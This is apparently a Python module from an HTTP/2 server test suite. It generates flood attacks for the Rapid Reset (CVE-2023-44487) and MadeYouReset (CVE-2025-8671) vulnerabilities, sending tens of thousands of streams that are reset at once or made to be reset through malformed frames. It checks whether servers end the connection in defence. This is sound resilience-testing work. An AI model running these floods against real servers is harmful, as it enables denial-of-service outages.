"""Decides how streams are opened only to be reset: by the attacker (CVE-2023-44487), or by a server that is provoked
into it (CVE-2025-8671). The work is begun each time, and no bound on open streams sees it."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from suite.attack import Attack, Battle
from wire import frames, hpack, requests
from wire.peer import Peer
from wire.reaction import end_of, ended_with
from wire.transport import Target

# A server that takes so many has no bound.
MOST = 20_000
BATCH = 50
Provocation = Callable[[Target, int], bytes]


def streams(target: Target, one: Provocation) -> Iterator[bytes]:
    """Batches of streams, each of them opened and spoilt."""
    for start in range(0, MOST, BATCH):
        yield b"".join(one(target, 2 * number + 1) for number in range(start, start + BATCH))


def at_once(one: Provocation) -> Callable[[Battle], str]:
    def run(battle: Battle) -> str:
        with Peer(battle.target) as peer:
            peer.flood(streams(battle.target, one))
            return end_of(peer)

    return run


def in_step(one: Provocation) -> Callable[[Battle], str]:
    """Batch by batch, each when the last is reset: never many streams open."""

    def run(battle: Battle) -> str:
        with Peer(battle.target) as peer:
            for batch in streams(battle.target, one):
                peer.send(batch)
                if (seen := end_of(peer)) != "went on":
                    return seen
            return "went on"

    return run


def watched(target: Target, stream: int) -> bytes:
    """A call that lasts: the server has something to give up."""
    return requests.call(target, stream, requests.WATCH_RUNS, requests.GRPC, requests.message())


def unfinished(target: Target, stream: int, *fields: tuple[str, str]) -> bytes:
    """A call whose handler runs before its body has come."""
    return frames.headers(stream, requests.head(target, requests.WRITE_LOGS, *requests.GRPC, *fields), end=False)


def rapid(target: Target, stream: int) -> bytes:
    return requests.ping(target, stream) + frames.reset(stream)


def rapid_of_watchers(target: Target, stream: int) -> bytes:
    return watched(target, stream) + frames.reset(stream)


def update_of_zero(target: Target, stream: int) -> bytes:
    return watched(target, stream) + frames.window_update(stream, 0)


def window_overflow(target: Target, stream: int) -> bytes:
    return watched(target, stream) + frames.window_update(stream, 0x7FFFFFFF)


def data_after_end(target: Target, stream: int) -> bytes:
    return watched(target, stream) + frames.data(stream, b"more")


def headers_after_end(target: Target, stream: int) -> bytes:
    return watched(target, stream) + frames.headers(stream, hpack.block(("late", "yes")))


def short_priority(target: Target, stream: int) -> bytes:
    return watched(target, stream) + frames.frame(frames.PRIORITY, 0, stream, bytes(4))


def own_parent(target: Target, stream: int) -> bytes:
    return watched(target, stream) + frames.priority(stream, depends_on=stream)


def long_body(target: Target, stream: int) -> bytes:
    return unfinished(target, stream, ("content-length", "1")) + frames.data(stream, b"{}", end=True)


def bad_trailers(target: Target, stream: int) -> bytes:
    return unfinished(target, stream) + frames.headers(stream, hpack.block((":path", "/")))


def malformed(target: Target, stream: int) -> bytes:
    return frames.headers(stream, requests.head(target, requests.PING, ("Upper", "case")))


ATTACKS = tuple(
    Attack(
        name,
        f"{sends}, on {MOST} streams a connection",
        "end the connection, with ENHANCE_YOUR_CALM or the error of the frame, long before the last",
        at_once(one) if one in (rapid, rapid_of_watchers) else in_step(one),
        # INTERNAL_ERROR is nghttp2's word for a flood of resets.
        ended_with("ENHANCE_YOUR_CALM", "INTERNAL_ERROR", *errors),
    )
    for name, sends, one, errors in (
        ("rapid-reset", "calls, each reset at once", rapid, ()),
        ("rapid-reset-watchers", "calls that last, each reset at once", rapid_of_watchers, ()),
        ("made-you-reset-update-zero", "WINDOW_UPDATE of 0", update_of_zero, ("PROTOCOL_ERROR",)),
        ("made-you-reset-overflow", "WINDOW_UPDATE beyond 2^31-1", window_overflow, ("FLOW_CONTROL_ERROR",)),
        ("made-you-reset-half-closed", "DATA after END_STREAM", data_after_end, ("STREAM_CLOSED",)),
        ("made-you-reset-headers", "HEADERS after END_STREAM", headers_after_end, ("STREAM_CLOSED",)),
        ("made-you-reset-priority", "PRIORITY of 4 bytes", short_priority, ("FRAME_SIZE_ERROR",)),
        ("made-you-reset-parent", "PRIORITY on itself", own_parent, ("PROTOCOL_ERROR",)),
        ("made-you-reset-length", "more DATA than content-length", long_body, ("PROTOCOL_ERROR",)),
        ("made-you-reset-trailers", "trailers with a pseudo-header", bad_trailers, ("PROTOCOL_ERROR",)),
        ("made-you-reset-malformed", "requests with an upper-case name", malformed, ("PROTOCOL_ERROR",)),
    )
)
